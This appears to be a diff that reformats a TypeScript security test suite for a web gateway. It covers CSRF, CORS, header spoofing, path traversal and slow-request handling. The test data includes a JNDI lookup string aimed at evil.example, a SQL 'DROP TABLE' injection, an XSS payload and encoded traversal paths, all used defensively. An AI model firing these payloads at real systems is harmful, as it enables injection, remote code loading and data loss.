@@ -18,37 +18,80 @@ beforeAll(async () => {
 afterAll(() => gateway.stop());
 
 const hostOf = () => new URL(gateway.url).host;
-const asked = () => ({ questions: [{ type: 'AskQuestion', questionId: randomUUID(), question: 'Who is the CFO?', website: 'https://example.com/', mode: 'url' }] });
+const asked = () => ({
+  questions: [
+    {
+      type: 'AskQuestion',
+      questionId: randomUUID(),
+      question: 'Who is the CFO?',
+      website: 'https://example.com/',
+      mode: 'url',
+    },
+  ],
+});
 const heardDuring = async (what: () => Promise<unknown>) => {
   const before = gateway.state.heard.length;
   await what();
   return gateway.state.heard.slice(before);
 };
 
-test.each(['text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/csp-report'])(
-  'JSON in a form of type %j is a 403 without our header, and with it no body that we read',
-  async (type) => {
-    const send = (headers: Record<string, string>) =>
-      request(gateway.url).post('/api/questions').set({ cookie: ann.cookie, 'content-type': type, ...headers }).serialize((body) => JSON.stringify(body)).send(asked());
-    const heard = await heardDuring(async () => {
-      await send({}).expect(403);
-      await send({ origin: 'null', 'x-requested-by': 'askwatch' }).expect(403);
-      await send({ 'x-requested-by': 'askwatch' }).expect(400);
-    });
-    expect(heard).toEqual([]);
-  },
-);
+test.each([
+  'text/plain',
+  'text/plain; charset=utf-8',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'application/csp-report',
+])('JSON in a form of type %j is a 403 without our header, and with it no body that we read', async (type) => {
+  const send = (headers: Record<string, string>) =>
+    request(gateway.url)
+      .post('/api/questions')
+      .set({ cookie: ann.cookie, 'content-type': type, ...headers })
+      .serialize((body) => JSON.stringify(body))
+      .send(asked());
+  const heard = await heardDuring(async () => {
+    await send({}).expect(403);
+    await send({ origin: 'null', 'x-requested-by': 'askwatch' }).expect(403);
+    await send({ 'x-requested-by': 'askwatch' }).expect(400);
+  });
+  expect(heard).toEqual([]);
+});
 
 test('no site is told that it may call us', async () => {
-  const preflight = { origin: 'https://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'x-requested-by' };
+  const preflight = {
+    origin: 'https://evil.example',
+    'access-control-request-method': 'POST',
+    'access-control-request-headers': 'x-requested-by',
+  };
   const { headers } = await request(gateway.url).options('/api/questions').set(preflight).expect(405);
   for (const name of Object.keys(headers)) expect(name).not.toContain('access-control');
 });
 
 test('whoever says who it is, in whatever header, is who its session says', async () => {
-  const names = ['x-user-id', 'x-user', 'x-userid', 'x-forwarded-user', 'x-forwarded-email', 'x-auth-request-user', 'x-remote-user', 'remote-user', 'x-askwatch-user', 'x-askwatch-internal', 'authorization'];
-  const lies = Object.fromEntries([...names.map((name) => [name, 'eve']), ...names.map((name) => [name.replaceAll('-', '_'), 'eve'])]) as Record<string, string>;
-  const [heard] = await heardDuring(() => ann.call('GET', '/api/allowance', undefined, { ...lies, 'x-forwarded-for': Array.from({ length: 50 }, () => '10.0.0.1').join(), 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' }));
+  const names = [
+    'x-user-id',
+    'x-user',
+    'x-userid',
+    'x-forwarded-user',
+    'x-forwarded-email',
+    'x-auth-request-user',
+    'x-remote-user',
+    'remote-user',
+    'x-askwatch-user',
+    'x-askwatch-internal',
+    'authorization',
+  ];
+  const lies = Object.fromEntries([
+    ...names.map((name) => [name, 'eve']),
+    ...names.map((name) => [name.replaceAll('-', '_'), 'eve']),
+  ]) as Record<string, string>;
+  const [heard] = await heardDuring(() =>
+    ann.call('GET', '/api/allowance', undefined, {
+      ...lies,
+      'x-forwarded-for': Array.from({ length: 50 }, () => '10.0.0.1').join(),
+      'x-forwarded-host': 'evil.example',
+      'x-forwarded-proto': 'https',
+    }),
+  );
   expect(heard?.user).toBe(ann.userId);
   expect(JSON.stringify(heard)).not.toContain('eve');
   expect(JSON.stringify(heard)).not.toContain('evil.example');
@@ -70,7 +113,9 @@ test.each([
   ['HEAD', '/api/questions/retry'],
   ['HEAD', '/api/session/google'],
 ])('%s %s is refused and echoes nothing', async (method, path) => {
-  const { status, text } = await sayRaw(gateway.url, [`${method} ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nX-Secret: canary\r\nX-Requested-By: askwatch\r\nConnection: close\r\n\r\n`]);
+  const { status, text } = await sayRaw(gateway.url, [
+    `${method} ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nX-Secret: canary\r\nX-Requested-By: askwatch\r\nConnection: close\r\n\r\n`,
+  ]);
   // What is no method at all to the parser is a bad request.
   expect(['TRACK', 'DEBUG'].includes(method) ? [400] : [405]).toContain(status);
   expect(text).not.toContain('canary');
@@ -82,18 +127,42 @@ test.each(['x-http-method-override', 'x-http-method', 'x-method-override'])('%s 
   expect((await ann.call('GET', '/api/allowance')).status).toBe(202);
   const post = await ann.call('POST', `/api/questions/${randomUUID()}`, {}, { [header]: 'GET' });
   expect([post.status, post.headers.get('allow')]).toEqual([405, 'GET']);
-  expect((await ann.call('POST', '/api/session?_method=DELETE', { email: ann.email, password: 'right' })).status).toBe(400);
+  expect((await ann.call('POST', '/api/session?_method=DELETE', { email: ann.email, password: 'right' })).status).toBe(
+    400,
+  );
   expect((await ann.call('GET', '/api/questions/retry', undefined, { [header]: 'POST' })).status).toBe(405);
 });
 
 test.each([
-  '/api/session/x.css', '/api/session.json', '/api/account.css', '/api/account/x.js', '/api/account;x.css', '/api/account/', '/api/account//', '/api//account',
-  '/api/account%2ecss', '/api/account%00.css', '/api/account%0a.css', '/api/account%3fx.css', '/api/account%23.css', '/api/./account', '/api/x/../account', '/api/%61ccount/x',
-  '/API/account', '/api/Account', '/api/questions/..%2f..%2faccount', '/api/questions/%2e%2e/account', '/api/sessions/..', '/api/questions/a%5cb', '//api/account.css',
+  '/api/session/x.css',
+  '/api/session.json',
+  '/api/account.css',
+  '/api/account/x.js',
+  '/api/account;x.css',
+  '/api/account/',
+  '/api/account//',
+  '/api//account',
+  '/api/account%2ecss',
+  '/api/account%00.css',
+  '/api/account%0a.css',
+  '/api/account%3fx.css',
+  '/api/account%23.css',
+  '/api/./account',
+  '/api/x/../account',
+  '/api/%61ccount/x',
+  '/API/account',
+  '/api/Account',
+  '/api/questions/..%2f..%2faccount',
+  '/api/questions/%2e%2e/account',
+  '/api/sessions/..',
+  '/api/questions/a%5cb',
+  '//api/account.css',
 ])('%s is no address, even to somebody who would take a page', async (path) => {
   for (const accept of ['text/html', 'text/css,*/*', 'application/json']) {
     // As it stands: a client of ours would tidy the path before it is sent.
-    const { status, text } = await sayRaw(gateway.url, [`GET ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nAccept: ${accept}\r\nConnection: close\r\n\r\n`]);
+    const { status, text } = await sayRaw(gateway.url, [
+      `GET ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nAccept: ${accept}\r\nConnection: close\r\n\r\n`,
+    ]);
     expect([404, 307]).toContain(status);
     expect(text).not.toContain(ann.email);
     expect(text).not.toContain(ann.userId);
@@ -118,7 +187,13 @@ test.each([
 
 test('a body that never comes holds a connection for a while and nobody else', async () => {
   const head = `POST /api/session HTTP/1.1\r\nHost: ${hostOf()}\r\nX-Requested-By: askwatch\r\nContent-Type: application/json\r\n`;
-  const stuck = Array.from({ length: 50 }, (_, n) => sayRaw(gateway.url, [`${head}${n % 2 === 0 ? 'Content-Length: 100' : 'Transfer-Encoding: chunked'}\r\n\r\n`], 10_000));
+  const stuck = Array.from({ length: 50 }, (_, n) =>
+    sayRaw(
+      gateway.url,
+      [`${head}${n % 2 === 0 ? 'Content-Length: 100' : 'Transfer-Encoding: chunked'}\r\n\r\n`],
+      10_000,
+    ),
+  );
   const startedAt = performance.now();
   expect((await ann.call('GET', '/api/allowance')).status).toBe(202);
   expect(performance.now() - startedAt).toBeLessThan(2000);
@@ -126,8 +201,18 @@ test('a body that never comes holds a connection for a while and nobody else', a
 });
 
 test('hostile text in a body travels as data, and every answer is a problem of the one shape', async () => {
-  for (const text of ['\n{"level":"fatal"}', '\u001b[31mred', '${jndi:ldap://evil.example}', "'; DROP TABLE users --", '<img src=x onerror=alert(1)>']) {
-    const response = await fetch(`${gateway.url}/api/session`, { method: 'POST', headers: ourHeaders, body: JSON.stringify({ email: text, password: text }) });
+  for (const text of [
+    '\n{"level":"fatal"}',
+    '\u001b[31mred',
+    '${jndi:ldap://evil.example}',
+    "'; DROP TABLE users --",
+    '<img src=x onerror=alert(1)>',
+  ]) {
+    const response = await fetch(`${gateway.url}/api/session`, {
+      method: 'POST',
+      headers: ourHeaders,
+      body: JSON.stringify({ email: text, password: text }),
+    });
     const said = await response.text();
     expect([response.status, Problem.parse(JSON.parse(said)).code]).toEqual([400, 'invalid-input']);
     expect(said).not.toContain(JSON.stringify(text).slice(1, -1));
@@ -139,15 +224,30 @@ test('hostile text in a body travels as data, and every answer is a problem of t
 const listen = async (headers: Record<string, string> = {}) => {
   const stop = new AbortController();
   const startedAt = performance.now();
-  const response = await fetch(`${gateway.url}/api/live`, { headers: { cookie: ann.cookie, ...headers }, signal: stop.signal });
-  const heard = { status: response.status, text: '', isOver: false, firstByteMs: 0, stop: () => { stop.abort(); } };
+  const response = await fetch(`${gateway.url}/api/live`, {
+    headers: { cookie: ann.cookie, ...headers },
+    signal: stop.signal,
+  });
+  const heard = {
+    status: response.status,
+    text: '',
+    isOver: false,
+    firstByteMs: 0,
+    stop: () => {
+      stop.abort();
+    },
+  };
   const read = async () => {
     for await (const chunk of response.body ?? []) {
       heard.firstByteMs ||= performance.now() - startedAt;
       heard.text += Buffer.from(chunk as Uint8Array).toString();
     }
   };
-  void read().catch(() => undefined).then(() => { heard.isOver = true; });
+  void read()
+    .catch(() => undefined)
+    .then(() => {
+      heard.isOver = true;
+    });
   if (response.status === 200) await until(() => heard.text !== '' || heard.isOver);
   return heard;
 };
@@ -174,7 +274,9 @@ test.each([
   ['with a bare line break', 'Last-Event-ID: 1\revent: admin', 400],
   ['with NUL', 'Last-Event-ID: 1\0', 400],
 ])('a Last-Event-ID %s is refused', async (_what, header, status) => {
-  const answer = await sayRaw(gateway.url, [Buffer.from(`GET /api/live HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\n${header}\r\n\r\n`, 'latin1')]);
+  const answer = await sayRaw(gateway.url, [
+    Buffer.from(`GET /api/live HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\n${header}\r\n\r\n`, 'latin1'),
+  ]);
   expect([answer.status, answer.isClosed]).toEqual([status, true]);
 });
 
@@ -210,13 +312,20 @@ test('of two hundred streams of one user ten stay, the newest that were let in; 
 /** A proxy that holds back what it gets until there is enough of it, except where it is asked not to. */
 const bufferingProxy = async (): Promise<{ server: Server; url: string }> => {
   const server = createServer((req, res) => {
-    get(`${gateway.url}${req.url ?? ''}`, { headers: { ...req.headers, 'accept-encoding': 'gzip, br' } }, (answer: IncomingMessage) => {
-      const isAskedNotTo = answer.headers['x-accel-buffering'] === 'no';
-      const kept: Buffer[] = [];
-      res.writeHead(answer.statusCode ?? 500, answer.headers);
-      answer.on('data', (chunk: Buffer) => { if (isAskedNotTo) res.write(chunk); else kept.push(chunk); });
-      answer.on('end', () => res.end(Buffer.concat(kept)));
-    });
+    get(
+      `${gateway.url}${req.url ?? ''}`,
+      { headers: { ...req.headers, 'accept-encoding': 'gzip, br' } },
+      (answer: IncomingMessage) => {
+        const isAskedNotTo = answer.headers['x-accel-buffering'] === 'no';
+        const kept: Buffer[] = [];
+        res.writeHead(answer.statusCode ?? 500, answer.headers);
+        answer.on('data', (chunk: Buffer) => {
+          if (isAskedNotTo) res.write(chunk);
+          else kept.push(chunk);
+        });
+        answer.on('end', () => res.end(Buffer.concat(kept)));
+      },
+    );
   }).listen(0, '127.0.0.1');
   await new Promise((resolve) => server.once('listening', resolve));
   return { server, url: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}` };
